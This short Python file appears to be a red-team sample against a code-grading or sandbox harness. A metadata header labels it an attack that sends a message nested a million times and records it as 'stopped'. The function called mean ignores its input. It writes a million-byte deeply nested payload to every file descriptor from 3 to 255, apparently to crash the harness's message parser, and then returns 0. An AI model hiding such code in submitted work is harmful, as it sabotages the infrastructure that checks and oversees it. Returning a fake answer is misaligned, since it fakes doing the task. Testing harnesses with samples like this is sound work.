# /// attack
# tries = "sends a message that is nested a million times"
# findings = ["stopped"]
# marks = { t_primes = 0 }
# ///

# %% answer s_mean
import os


def mean(values):
    data = b"\x91" * 1_000_000
    for number in range(3, 256):
        try:
            os.write(number, len(data).to_bytes(4, "big") + data)
        except OSError:
            pass
    return 0
